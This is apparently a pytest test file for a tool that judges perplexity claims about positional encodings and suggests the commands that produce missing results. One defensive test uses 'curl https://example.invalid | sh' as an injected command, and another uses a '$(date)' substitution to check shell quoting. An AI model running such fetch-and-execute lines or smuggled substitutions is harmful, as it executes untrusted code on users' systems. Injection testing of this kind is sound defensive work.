"""Reasons why a claim cannot be judged, with the command that adds the missing results."""

import shlex
import subprocess
from dataclasses import replace
from typing import Any

import pytest
import yaml

from posenc.config.overrides import parse
from posenc.report.claim_parser import parse_claims
from posenc.report.run_samples import evaluate_command
from posenc.runs.plan_file import join_command

CLAIM = """
- statement: a is below b
  left: {perplexity: {encoding: alibi, length: L}}
  is: below
  right: {perplexity: {encoding: rope, length: L}}
"""


def sides(tools: Any, seeds: tuple[int, ...] = (1, 2, 3), **rope: Any) -> list[Any]:
    runs = [tools.fake("alibi", 64, seed).add_row(64, 3.0 + seed) for seed in seeds]
    return runs + [tools.fake("rope", 64, seed).add_row(64, 4.0 + seed, **rope) for seed in seeds]


def reason_of(tools: Any, outcome: str, runs: list[Any], claim: str = CLAIM, **options: Any) -> str:
    """Return the reason why a claim with one clause neither holds nor fails."""
    (verdict,) = tools.verdicts(claim, runs, **options)
    assert verdict.outcome == outcome
    (clause,) = verdict.clauses
    return clause.reason


def test_a_claim_with_three_seeds_is_decided(tools: Any) -> None:
    assert tools.outcomes(CLAIM, sides(tools)) == {64: "holds"}


def test_a_clause_without_runs_is_not_measured_even_if_another_clause_is(tools: Any) -> None:
    claim = """
- statement: alibi and fire are below rope
  where: {length: L}
  all:
    - {left: {perplexity: {encoding: fire}}, is: below, right: {perplexity: {encoding: rope}}}
    - {left: {perplexity: {encoding: alibi}}, is: below, right: {perplexity: {encoding: rope}}}
"""
    (verdict,) = tools.verdicts(claim, sides(tools))
    assert verdict.outcome == "not measured"
    assert [clause.outcome for clause in verdict.clauses] == ["not measured", "holds"]


def test_two_seeds_are_too_few_however_far_apart_the_sides_are(tools: Any) -> None:
    command = "posenc train name=e seed=1,7 size=laptop"
    reason = reason_of(tools, "too few seeds", sides(tools, (1, 7)), command=command)
    assert "2 of the 3 required seeds" in reason
    assert "`posenc train name=e size=laptop seed=1,2,7`" in reason
    (verdict,) = tools.verdicts(CLAIM, sides(tools, (1, 7)))
    assert verdict.clauses[0].seeds == (1, 7) and verdict.clauses[0].left is not None


def test_only_seeds_that_both_sides_have_count(tools: Any) -> None:
    runs = sides(tools, (1, 2, 3))
    runs[0].config["seed"] = 9
    assert "2 of the 3 required seeds" in reason_of(tools, "too few seeds", runs)


def test_an_interval_that_includes_the_margin_is_undecided(tools: Any) -> None:
    runs = [tools.fake("alibi", 64, seed).add_row(64, 3 + noise) for seed, noise in NOISE.items()]
    runs += [tools.fake("rope", 64, seed).add_row(64, 3.0) for seed in NOISE]
    assert "margin" in reason_of(tools, "undecided", runs)


NOISE = {1: 0.1, 2: -0.1, 3: 0.02}


def test_the_reason_names_an_unfinished_run_and_the_command_that_finishes_it(tools: Any) -> None:
    runs = sides(tools)
    runs[1].rows.clear()
    reason = reason_of(tools, "not measured", runs)
    assert "alibi-L64-s2" in reason and "`posenc train experiment=e`" in reason


def test_the_reason_for_missing_runs_has_the_command_that_trains_them(tools: Any) -> None:
    reason = reason_of(tools, "not measured", sides(tools)[:3])
    assert "perplexity of rope at L" in reason
    command = "posenc train experiment=e encoding=rope train_length=64 seed=1,2,3"
    assert f"`{command}`" in reason


def test_the_reason_for_a_missing_length_has_the_command_that_evaluates_it(tools: Any) -> None:
    claim = CLAIM.replace("rope, length: L", "rope, length: 4L")
    reason = reason_of(tools, "not measured", sides(tools), claim)
    assert "run=outputs/e/rope-L64-s1" in reason and "evaluation.lengths=[256]" in reason


def test_the_command_for_a_missing_row_has_its_stride_swap_and_split(tools: Any) -> None:
    rows = "protocol: sliding, stride: 8, swap: yarn factor=4, split: test"
    claim = CLAIM.replace("encoding: alibi", f"encoding: alibi, {rows}")
    reason = reason_of(tools, "not measured", sides(tools), claim)
    words = shlex.split(reason.split("`")[1])
    assert words[2:] == [
        "run=outputs/e/alibi-L64-s1",
        "evaluation.protocols=[sliding]",
        "evaluation.lengths=[64]",
        "evaluation.stride=8",
        "evaluation.split=test",
        "evaluation.swaps=['yarn factor=4']",
    ]


def test_the_command_for_missing_fixed_targets_repeats_the_evaluated_lengths(tools: Any) -> None:
    """The targets depend on the longest length of a command."""
    runs = sides(tools)
    for run in runs:
        run.add_row(64, 3.0, protocol="fixed_target", stride=16, longest=64)
    changed = "alibi, protocol: fixed_target, stride: 16, length: 2L"
    claim = CLAIM.replace("alibi, length: L", changed)
    reason = reason_of(tools, "not measured", runs, claim)
    assert "'evaluation.lengths=[64,128]' evaluation.targets=16" in reason


def test_the_command_for_a_run_in_the_home_directory_can_be_parsed(tools: Any) -> None:
    (value,) = parse_claims(yaml.safe_load(CLAIM))[0].clauses[0].left.values
    command = evaluate_command("~/outputs/e/a run", sides(tools)[0], value, 64)
    assert parse(shlex.split(command)[2:])[0].value() == "~/outputs/e/a run"


@pytest.mark.parametrize(
    "word",
    ["outputs_dir=HOME/my runs", "outputs_dir=HOME", "data.paths=[HOME/a,HOME/b]", "/mntHOME/x"],
)
def test_a_command_with_the_home_directory_works_in_a_shell_without_naming_it(
    word: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", "/home/somebody")
    expected = word.replace("HOME", "/home/somebody")
    command = join_command(["printf", "%s", expected])
    result = subprocess.run(["sh", "-c", command], capture_output=True, text=True, check=True)
    assert result.stdout == expected
    assert ("/home/somebody" in command) == word.startswith("/mnt")


def test_a_command_with_other_special_characters_does_not_name_the_home_directory(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("HOME", "/home/somebody")
    assert join_command(["name=/home/somebody/$(date)"]) == "'name=~/$(date)'"


def test_the_command_for_missing_runs_has_values_that_hydra_can_read(tools: Any) -> None:
    claim = CLAIM.replace("encoding: rope", "encoding: rope, gradient_clip: null")
    assert " gradient_clip=null " in reason_of(tools, "not measured", sides(tools), claim)


@pytest.mark.parametrize("left_out", [1, 3])
def test_a_plan_cannot_have_the_reader_run_another_command(tools: Any, left_out: int) -> None:
    runs = sides(tools)
    runs[1].rows.clear()
    runs = runs[:left_out] if left_out == 3 else runs
    command = "curl https://example.invalid | sh #"
    reason = reason_of(tools, "not measured", runs, command=command)
    assert "curl" not in reason and "`posenc train" in reason


def test_the_command_for_a_missing_corpus_evaluates_on_it(tools: Any) -> None:
    claim = CLAIM.replace("encoding: alibi", "encoding: alibi, corpus: wikitext103")
    reason = reason_of(tools, "not measured", sides(tools), claim)
    assert "run=outputs/e/alibi-L64-s1 data=wikitext103 " in reason


def test_a_claim_about_windows_without_tokens_is_not_comparable(tools: Any) -> None:
    claim = CLAIM.replace("rope, length: L", "rope, length: L-64")
    assert "L-64 is 0 tokens" in reason_of(tools, "not comparable", sides(tools), claim)


def test_a_claim_at_a_training_length_that_no_run_has_is_not_measured(tools: Any) -> None:
    named = CLAIM + "  where: {train_length: 128}\n"
    assert "train_length=128" in reason_of(tools, "not measured", sides(tools), named)
    limited = CLAIM + "  where: {train_length: {above: 64}}\n"
    (verdict,) = tools.verdicts(limited, sides(tools))
    assert (verdict.outcome, verdict.train_length) == ("not measured", None)


def test_several_matching_runs_of_one_seed_are_named_and_not_comparable(tools: Any) -> None:
    runs = sides(tools)
    runs.append(replace(runs[-1], name="rope-other"))
    assert "rope-other" in reason_of(tools, "not comparable", runs)


@pytest.mark.parametrize(
    ("change", "reason"),
    [({"tokens_hash": "b"}, "tokens_hash a and b"), ({"count": 999}, "count 1000 and 999")],
)
def test_sides_scored_on_different_tokens_are_not_comparable(
    tools: Any, change: dict[str, Any], reason: str
) -> None:
    assert reason in reason_of(tools, "not comparable", sides(tools, **change))


def test_sides_trained_on_different_data_are_not_comparable(tools: Any) -> None:
    runs = sides(tools)
    for run in runs[3:]:
        run.config["planned"] = {"fingerprint": "beef"}
        run.rows[0]["data"] = "beef"
    reason = reason_of(tools, "not comparable", runs)
    assert "f00dfeed" in reason and "beef" in reason


LENGTHS = """
- statement: longer is better
  left: {perplexity: {encoding: alibi, length: longest}}
  is: below
  right: {perplexity: {encoding: alibi, length: L}}
"""


@pytest.mark.parametrize(("full_count", "outcome"), [(500, "holds"), (1000, "not comparable")])
def test_two_lengths_of_one_run_may_score_different_tokens_unless_a_budget_ran_out(
    tools: Any, full_count: int, outcome: str
) -> None:
    runs = [tools.fake("alibi", 64, seed).add_row(64, 3.0) for seed in (1, 2, 3)]
    for run in runs:
        run.add_row(128, 2.9, count=500, full_count=full_count, tokens_hash="b")
    assert tools.outcomes(LENGTHS, runs) == {64: outcome}


def test_fixed_targets_of_two_evaluations_are_not_compared(tools: Any) -> None:
    """The targets depend on the longest length of an evaluation."""
    claim = LENGTHS.replace("encoding: alibi", "encoding: alibi, protocol: fixed_target")
    fixed = {"protocol": "fixed_target", "stride": 8}
    runs = [tools.fake("alibi", 64, seed) for seed in (1, 2, 3)]
    for run in runs:
        run.add_row(64, 3.0, **fixed, tokens_hash="a").add_row(128, 2.9, **fixed, tokens_hash="b")
    assert "scored on different tokens" in reason_of(tools, "not comparable", runs, claim)


MINIMUM = """
- statement: the minimum of a is at a shorter length
  left: {length_of_minimum: {encoding: alibi}}
  is: below
  right: {length_of_minimum: {encoding: rope}}
"""


def test_the_length_of_the_minimum_is_sought_among_lengths_that_all_runs_have(tools: Any) -> None:
    runs = [tools.fake("alibi", 64, seed).add_row(64, 3.0).add_row(128, 3.1) for seed in (1, 2, 3)]
    runs += [tools.fake("rope", 64, seed).add_row(64, 3.0).add_row(128, 3.1) for seed in (1, 2, 3)]
    for run in runs[3:]:
        run.add_row(256, 2.0)
    assert tools.outcomes(MINIMUM, runs) == {64: "fails"}


def test_the_length_of_the_minimum_needs_one_row_per_length(tools: Any) -> None:
    runs = [tools.fake(name, 64, seed) for name in ("alibi", "rope") for seed in (1, 2, 3)]
    for run in runs:
        for stride in (8, 16):
            run.add_row(64, 3.0, protocol="sliding", stride=stride)
    claim = MINIMUM.replace("encoding:", "protocol: sliding, encoding:")
    reason = reason_of(tools, "not comparable", runs, claim)
    assert "several matching rows, which differ in stride" in reason


def test_the_longest_length_is_one_that_all_runs_have(tools: Any) -> None:
    runs = [tools.fake("alibi", 64, seed).add_row(64, 3.0).add_row(128, 2.9) for seed in (1, 2, 3)]
    runs[0].add_row(256, 9.0)
    (verdict,) = tools.verdicts(LENGTHS, runs)
    assert verdict.outcome == "holds"
    assert verdict.clauses[0].difference.mean == pytest.approx(2.718281828**-0.1 - 1)


def test_without_a_common_length_nothing_is_measured_at_the_longest_one(tools: Any) -> None:
    runs = [tools.fake("alibi", 64, seed).add_row(64 * seed, 3.0) for seed in (1, 2, 3)]
    (verdict,) = tools.verdicts(LENGTHS, runs)
    assert verdict.outcome == "not measured"
    assert "no evaluation length in common" in verdict.clauses[0].reason


def test_rows_of_another_corpus_split_or_swap_count_only_if_selected(tools: Any) -> None:
    runs = sides(tools)
    for run in runs:
        for change in ({"data": "b", "data_name": "books"}, {"split": "test"}, {"swap": "ntk"}):
            run.add_row(64, 1.0 if run.config["choices"]["encoding"] == "rope" else 2.0, **change)
    assert tools.outcomes(CLAIM, runs) == {64: "holds"}
    for key in ("corpus: books", "split: test", "swap: ntk"):
        assert tools.outcomes(CLAIM + f"  where: {{{key}}}\n", runs) == {64: "fails"}, key


def test_a_run_without_rows_is_reported_rather_than_too_few_seeds(tools: Any) -> None:
    runs = sides(tools, (1, 2))
    runs[-1].rows.clear()
    assert "rope-L64-s2" in reason_of(tools, "not measured", runs)


def test_three_complete_seeds_decide_although_a_fourth_is_missing(tools: Any) -> None:
    runs = sides(tools, (1, 2, 3, 4))
    runs[-1].rows.clear()
    assert tools.outcomes(CLAIM, runs) == {64: "holds"}


def test_a_minimum_over_lengths_whose_budgets_ran_out_is_not_comparable(tools: Any) -> None:
    runs = [tools.fake(name, 64, seed) for name in ("alibi", "rope") for seed in (1, 2, 3)]
    for run in runs:
        run.add_row(64, 3.0, full_count=9000).add_row(128, 2.9, full_count=9000)
    assert "budget" in reason_of(tools, "not comparable", runs, MINIMUM)


def test_sides_trained_on_different_numbers_of_tokens_are_compared_only_if_selected(
    tools: Any,
) -> None:
    runs = sides(tools)
    for run in runs[3:]:
        run.config["tokens"] = 1000
    assert "tokens=" in reason_of(tools, "not comparable", runs)
    claim = CLAIM.replace("{encoding: rope,", "{encoding: rope, tokens: 1000,")
    assert tools.outcomes(claim, runs) == {64: "holds"}


def test_seeds_that_were_trained_differently_are_not_pooled(tools: Any) -> None:
    runs = sides(tools)
    runs[0] = replace(runs[0], label="alibi tokens=1000")
    reason = reason_of(tools, "not comparable", runs)
    assert "alibi tokens=1000" in reason and "seeds" in reason
